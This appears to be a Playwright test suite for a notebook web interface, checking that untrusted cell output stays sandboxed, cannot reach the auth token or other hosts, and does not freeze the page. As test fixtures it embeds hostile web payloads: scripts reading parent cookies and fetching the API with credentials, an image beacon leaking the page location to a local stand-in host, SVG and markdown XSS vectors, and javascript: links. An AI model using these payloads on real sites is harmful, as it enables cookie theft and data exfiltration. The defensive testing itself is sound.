"""Outputs that mean harm: they reach neither the token, nor the API, nor the page, nor another host."""

from __future__ import annotations

import socket
import textwrap

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from interpreter import Session
from tests.conftest import Gateway, only

pytestmark = only("embedded")

REACHING = """
<h2>a report</h2>
<form action="/v1/sessions" method="post"><input name="x"><button id="send">send</button></form>
<div id="said">nothing yet</div>
<script>
  const said = {};
  const tries = {
    parent: () => parent.document.title,
    top: () => top.document.cookie,
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    leave: () => { top.location = "http://127.0.0.1:1/gone"; return location.href; },
    open: () => String(open("/")),
    dialog: () => { alert("hello"); return "shown"; },
  };
  (async () => {
    for (const [name, attempt] of Object.entries(tries)) {
      try { said[name] = String(attempt()); } catch (error) { said[name] = "refused"; }
    }
    for (const url of ["/v1/sessions", "/v1/status", "http://127.0.0.1:1/"]) {
      try { said[url] = (await fetch(url, {credentials: "include"})).status; } catch { said[url] = "refused"; }
    }
    try { said.worker = String(new Worker("/assets/x.js")); } catch { said.worker = "refused"; }
    new Image().src = "http://127.0.0.1:1/leak?" + location;
    document.getElementById("send").click();
    // What the page believes of a frame is its height, within bounds.
    for (const message of [{height: 1e9}, {height: -5}, {height: NaN}, {height: "<b>"}, null, 7,
        {ready: true}, {do: "rest"}, {mime: "text/html", value: "x"}, {is: "events", events: []}]) {
      parent.postMessage(message, "*");
    }
    document.getElementById("said").textContent = JSON.stringify(said);
  })();
</script>
"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40" onload="parent.hacked = 1">
<script>top.hacked = 1; fetch("/v1/sessions")</script>
<rect width="60" height="40" fill="teal" onclick="alert(1)"/>
<foreignObject width="10" height="10"><iframe src="/v1/sessions"></iframe></foreignObject></svg>"""
COVERING = """<style>
html, body { position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; height: 100000px; }
div { position: fixed; inset: 0; background: red; width: 100vw; height: 100vh; }
</style><div>covered</div><script>parent.postMessage({height: 1e7}, "*")</script>"""


def show(mime: str, content: str) -> str:
    return f"from IPython.display import display\ndisplay({{{mime!r}: {content!r}}}, raw=True)"


STALL = 5_000
"""Milliseconds that the page may keep a person waiting, on a machine that has other things to do."""
WATCH = """() => {
  window.stalls = [];
  const note = (list) => list.getEntries().forEach(({name, duration}) => stalls.push([name, duration]));
  new PerformanceObserver(note).observe({type: "longtask"});
  new PerformanceObserver(note).observe({type: "event", durationThreshold: 1000});
}"""


def responsive(page: Page) -> None:
    """The page does what it is told: it opens its menu, and shows what is typed. As the browser has it,
    nothing that the page did and nothing that was done to it took long."""
    if not page.evaluate("'stalls' in window"):
        page.evaluate(WATCH)
    page.get_by_role("button", name="More", exact=True).click()
    expect(page.get_by_role("menuitem", name="Delete")).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_label("Code of the next cell").focus()
    page.keyboard.insert_text("# alive")
    expect(page.get_by_label("Code of the next cell")).to_have_text("# alive")
    page.keyboard.press("Control+a")
    page.keyboard.press("Delete")
    stalls = page.evaluate("stalls")
    assert not [stall for stall in stalls if stall[1] > STALL], stalls


@pytest.fixture
def notebook(notebook: Page) -> Page:
    """Watched from the beginning."""
    notebook.evaluate(WATCH)
    return notebook


def test_scripts_reach_nothing(
    notebook: Page, context: BrowserContext, gateway: Gateway, live: Session
) -> None:
    popups: list[Page] = []
    context.on("page", lambda opened: popups.append(opened))
    dialogs: list[str] = []
    notebook.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    live.run(show("text/html", REACHING))
    frame = notebook.frame_locator(".framed iframe")
    said = frame.locator("#said")
    expect(said).to_contain_text("worker")
    told = said.evaluate("element => JSON.parse(element.textContent)")
    assert told.pop("leave") in ("refused", f"{gateway.url}/frame#light"), told
    assert told.pop("open") in ("null", "refused")
    assert told.pop("dialog") in (
        "refused",
        "shown",
    )  # a sandboxed dialog is never shown, whatever it says
    assert set(told.values()) == {"refused"}, told
    assert not popups
    assert not dialogs
    assert notebook.url == f"{gateway.url}/sessions/{live.id}"
    box = notebook.locator(".framed iframe").bounding_box()
    assert box is not None
    assert box["height"] < 1000, "whatever the frame says of its height"
    # The token is nowhere that a script could read it, not even one of the page's own.
    assert notebook.evaluate("document.cookie") == ""
    assert gateway.token not in notebook.content()
    responsive(notebook)


def test_drawings_markdown_and_styles_stay_in_their_frames(
    notebook: Page, gateway: Gateway, live: Session
) -> None:
    asked: list[str] = []
    notebook.on("request", lambda request: asked.append(request.url))
    live.run(show("image/svg+xml", SVG))
    live.run(
        show(
            "text/markdown", "# Title\n\n<img src=x onerror='top.hacked=1'><script>top.hacked=1</script>"
        )
    )
    live.run(show("application/javascript", "element.textContent = 'ran'; top.hacked = 1"))
    live.run(show("text/html", COVERING))
    frames = notebook.locator(".framed iframe")
    expect(frames).to_have_count(4)
    expect(frames.nth(0).content_frame.locator("rect")).to_be_visible()
    expect(frames.nth(1).content_frame.locator("h1")).to_have_text("Title")
    expect(frames.nth(3).content_frame.locator("div", has_text="covered").last).to_be_visible()
    for at in range(4):
        assert frames.nth(at).get_attribute("sandbox") == "allow-scripts"
    assert notebook.evaluate("window.hacked") is None
    assert not [url for url in asked if url.endswith("/v1/sessions")]
    # The bar is above everything, and a click on it arrives.
    responsive(notebook)
    assert notebook.evaluate("document.querySelectorAll('.cell script, .cell svg rect').length") == 0


def test_text_is_text(notebook: Page, live: Session) -> None:
    """Names, prompts, errors and results that look like HTML are shown as what they are."""
    evil = "<img src=x onerror=window.hacked=1>"
    live.run(
        f"open({evil!r}.replace('/', ''), 'w').write('x'); print({evil!r}); raise ValueError({evil!r})"
    )
    found = notebook.locator(".cell").last
    expect(found.locator(".text").first).to_have_text(evil)
    expect(found.locator(".exception")).to_contain_text(evil)
    expect(found.locator(".cell-files")).to_contain_text("<img src=x")
    live.update(name=evil)
    expect(notebook.get_by_role("heading", name=evil)).to_be_visible()
    assert notebook.evaluate("window.hacked") is None
    assert found.locator("img").count() == 0


def test_a_million_lines_do_not_freeze_the_page(notebook: Page, live: Session) -> None:
    live.run("for i in range(1_000_000): print(f'line {i}')", timeout=300)
    found = notebook.locator(".cell").last
    expect(found).to_have_attribute("data-status", "ok")
    expect(found.locator(".text").first).to_contain_text("line 0")
    expect(found.locator(".text").last).to_contain_text("line 999999")
    expect(found.locator(".cut").first).to_contain_text("lines not shown")
    responsive(notebook)
    shown = found.locator(".text").all_inner_texts()
    assert sum(text.count("\n") for text in shown) < 1000
    found.get_by_role("button", name="Show more").first.click()
    expect(found.locator(".text").first).to_contain_text("line 300")
    with notebook.expect_download() as download:
        found.get_by_role("link", name="Download all").first.click()
    with open(download.value.path(), "rb") as whole:
        assert sum(1 for _ in whole) == 1_000_000
    responsive(notebook)


def test_fifty_megabytes_of_html_do_not_freeze_the_page(notebook: Page, live: Session) -> None:
    live.run(
        "from IPython.display import HTML, display\n"
        "display(HTML('<p>large</p>' * (50_000_000 // 12)))\nprint('after')",
        timeout=300,
    )
    found = notebook.locator(".cell").last
    expect(found).to_contain_text("after")
    expect(found.locator(".results")).to_contain_text("over the limit")
    responsive(notebook)
    live.run("display(HTML('<p>large</p>' * (30_000_000 // 12)))\nprint('after')", timeout=300)
    expect(found).to_contain_text("after")
    expect(found.locator(".results")).to_contain_text("are kept here")
    responsive(notebook)
    # What fits is shown, and only so high.
    live.run("display(HTML('<p>tall</p>' * 100_000))", timeout=300)
    tall = notebook.locator(".framed iframe")
    expect(tall.content_frame.locator("p").first).to_have_text("tall")
    responsive(notebook)


def test_a_script_that_never_ends_does_not_stop_the_page(notebook: Page, live: Session) -> None:
    """Browsers may put all frames into one process, and others then wait with it; the page does not."""
    spin = "parent.postMessage({height: 333}, '*'); setTimeout(() => { for (;;); }, 200)"
    spin = f"setTimeout(() => {{ {spin} }}, 300)"
    spinning = f"<p>spinning</p><script>{spin}</script>"
    frames = notebook.locator(".framed iframe")
    live.run(show("text/html", "<p>before</p>"))
    expect(frames.first.content_frame.locator("p")).to_have_text("before")
    live.run(show("text/html", spinning))
    expect(frames).to_have_count(2)
    expect(frames.last).to_have_css("height", "333px")  # the last that is heard of it
    live.run(show("text/html", "<p>after</p>"))
    expect(frames).to_have_count(3)
    live.run("print('and on')")
    expect(notebook.locator(".cell").last).to_contain_text("and on")
    responsive(notebook)


def test_text_like_the_pages_own_marks_is_only_text(notebook: Page, live: Session) -> None:
    """One cell that prints what nobody should print, and the notebook opens as before."""
    live.run(r"print('\0001\000' * 40_000); print('\0' * 100_000); print('after')")
    live.run("print('next')")
    for _ in range(2):
        expect(notebook.locator(".cell").last.locator(".text")).to_have_text("next")
        expect(notebook.locator(".cell").first.locator(".text").last).to_contain_text("after")
        expect(notebook.locator(".connection")).to_have_attribute("data-connection", "live")
        responsive(notebook)
        notebook.reload()


def test_a_cell_that_cannot_be_shown_breaks_nothing_else(notebook: Page, live: Session) -> None:
    """Nothing is known that would break one, so the browser is made to fail at a word."""
    notebook.add_init_script(
        "const split = String.prototype.split;"
        "String.prototype.split = function (...how) {"
        "  if (this.startsWith('poison')) throw new Error('poisoned');"
        "  return split.apply(this, how);"
        "}"
    )
    live.run("poison = 1; print('whole')")
    live.run("print('next')")
    notebook.reload()
    cells = notebook.locator(".cell")
    expect(cells.first).to_contain_text("This could not be shown here")
    expect(cells.first.locator(".text")).to_have_text("whole")
    expect(cells.last.locator(".text")).to_have_text("next")
    responsive(notebook)


LINKS = """<a id=away href="GATEWAY/healthz?b=<c>">away</a> <a id=odd href="javascript:alert(1)">odd</a>
<svg width=90 height=20><a href="https://127.0.0.1:1/svg"><text id=drawn y=15>drawn</text></a></svg>
<script>for (let i = 0; i < 50; i++) setTimeout(() => parent.postMessage({link: "http://127.0.0.1:1/spam"}, "*"), i * 20)</script>"""


def test_a_link_is_asked_about_and_replaces_nothing(
    notebook: Page, context: BrowserContext, gateway: Gateway, live: Session
) -> None:
    opened: list[Page] = []
    context.on("page", lambda page: opened.append(page))
    live.run(show("text/html", LINKS.replace("GATEWAY", gateway.url)))
    frame = notebook.frame_locator(".framed iframe")
    dialog = notebook.get_by_role("dialog")
    expect(frame.locator("#away")).to_be_visible()
    notebook.evaluate("new Promise(done => setTimeout(done, 1500))")
    expect(dialog).to_have_count(0)  # nobody has clicked
    frame.locator("#away").click()
    expect(dialog).to_contain_text(f"Open {gateway.url.removeprefix('http://')}?")
    expect(dialog).to_contain_text(f"{gateway.url}/healthz?b=%3Cc%3E")
    with context.expect_page() as page:
        dialog.get_by_role("button", name="Open").click()
    assert page.value.evaluate("window.opener") is None
    page.value.close()
    frame.locator("#drawn").click()
    expect(dialog).to_contain_text("https://127.0.0.1:1/svg")
    dialog.get_by_role("button", name="Cancel").click()
    # Who was told no is not heard for a while, whatever it claims.
    frame.locator("#odd").click()
    expect(dialog).to_have_count(0)
    expect(frame.locator("#away")).to_be_visible()
    assert len(opened) == 1
    responsive(notebook)


NAMES = """<link rel=dns-prefetch href="//prefetched.example.invalid"><link rel=preconnect href="http://127.0.0.1:PORT">
<link rel=prefetch href="http://127.0.0.1:PORT/x"><link rel=preload as=image href="http://127.0.0.1:PORT/y">
<p id=said>nothing yet</p><script>
(async () => {
  let said = "refused";
  try {
    const peer = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:PORT"}]});
    peer.createDataChannel("x");
    peer.onicecandidate = ({candidate}) => { if (candidate) said = "candidate"; };
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => setTimeout(done, 1500));
  } catch {}
  document.getElementById("said").textContent = said;
})();
</script>"""


def test_no_hint_and_no_call_reaches_another_host(
    notebook: Page, gateway: Gateway, live: Session
) -> None:
    """Neither what a browser does ahead of time, nor what goes around its requests."""
    with (
        socket.create_server(("127.0.0.1", 0)) as listener,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        port = listener.getsockname()[1]
        datagrams.bind(("127.0.0.1", port))
        live.run(show("text/html", NAMES.replace("PORT", str(port))))
        expect(notebook.frame_locator(".framed iframe").locator("#said")).to_have_text("refused")
        for one in (listener, datagrams):
            one.setblocking(False)
            with pytest.raises(BlockingIOError):
                one.recv(1) if one is datagrams else one.accept()
    # Names are looked up by the browser's own means; whether it may, the document says.
    answer = notebook.request.get(f"{gateway.url}/frame")
    assert answer.headers["x-dns-prefetch-control"] == "off"


def test_text_that_is_costly_to_draw_does_not_freeze_the_page(notebook: Page, live: Session) -> None:
    live.run(r"print('x' + '\b' * 400_000 + 'A'); print('a\r' * 300_000 + 'B')")
    live.run(r"print(('long' * 100_000 + '\r') * 5 + 'C'); print('x' * 5_000_000)")
    live.run(r"print(''.join(f'\x1b[3{i % 8}mc' for i in range(200_000)))")
    live.run(r"for i in range(300): print('wide ' * 1000)")
    cells = notebook.locator(".cell")
    expect(cells).to_have_count(4)
    expect(cells.last).to_have_attribute("data-status", "ok")
    expect(cells.nth(0).locator(".text")).to_have_text("A\nB")
    expect(cells.nth(1).locator(".text").first).to_contain_text("Cong")
    expect(cells.last.locator(".cut")).to_contain_text("lines not shown")
    responsive(notebook)
    assert notebook.evaluate("document.getElementsByTagName('*').length") < 10_000


def test_a_frame_that_floods_the_page_with_messages_is_ended(notebook: Page, live: Session) -> None:
    many = "for (let i = 0; i < 1000; i++) parent.postMessage({height: i}, '*')"
    flood = f"<script>setInterval(() => {{ {many} }}, 1)</script>"
    live.run(show("text/html", flood))
    expect(notebook.locator(".cell").last).to_contain_text("it kept the page busy")
    expect(notebook.locator("iframe")).to_have_count(0)
    responsive(notebook)


def test_a_flood_of_outputs_keeps_the_page_small(notebook: Page, live: Session) -> None:
    code = textwrap.dedent("""
        from IPython.display import HTML, display
        for i in range(2000): display(HTML(f'<b>{i}</b>'))
        for i in range(20000): print(i, end=' ')
    """)
    live.run(code, timeout=300)
    found = notebook.locator(".cell").last
    expect(found).to_contain_text("outputs are not shown")
    responsive(notebook)
    assert notebook.locator("iframe").count() <= 80
    assert notebook.evaluate("document.getElementsByTagName('*').length") < 5000
